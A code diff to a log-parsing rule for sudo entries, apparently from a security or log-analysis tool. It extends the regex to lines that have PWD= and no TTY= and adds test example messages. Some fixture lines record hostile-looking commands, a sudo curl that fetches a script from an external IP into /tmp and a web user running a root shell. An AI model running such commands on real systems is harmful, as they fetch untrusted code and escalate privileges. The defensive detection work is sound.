@@ -28,20 +28,23 @@ export const sudoRules: readonly RuleSpec[] = [
   {
     id: 'sudo.command',
     family: 'sudo',
-    description: 'sudo: USER : TTY=... ; COMMAND=...: a command run with sudo',
+    description: 'sudo: USER : TTY=... ; COMMAND=...: a command run with sudo (without a terminal, from a script or a remote command, sudo writes no TTY=)',
     type: 'priv.sudo',
     outcome: 'success',
     programs: ['sudo'],
     literal: 'COMMAND=',
-    pattern: S`^\s{0,16}(?<user>[^\s:]{1,64}) : TTY=`,
+    pattern: S`^\s{0,16}(?<user>[^\s:]{1,64}) : (?:TTY|PWD)=`,
     examples: {
       match: [
         { message: '  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/curl -fsSL http://203.0.113.45/x.sh -o /tmp/x.sh', expect: { user: 'deploy', type: 'priv.sudo' } },
         { message: 'root : TTY=pts/1 ; PWD=/root ; USER=postgres ; ENV=PGDATA=/var/lib/pgsql ; COMMAND=/usr/bin/psql', expect: { user: 'root' } },
+        { message: '    root : PWD=/root ; USER=root ; COMMAND=/usr/bin/certbot renew -q', expect: { user: 'root', type: 'priv.sudo' } },
+        { message: 'www-data : PWD=/var/www/html ; USER=root ; COMMAND=/bin/sh -c id', expect: { user: 'www-data', type: 'priv.sudo' } },
       ],
       noMatch: [
         'pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)',
         { program: 'bash', message: 'bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/ls' },
+        'bob : 1 incorrect password attempt ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id',
       ],
     },
   },
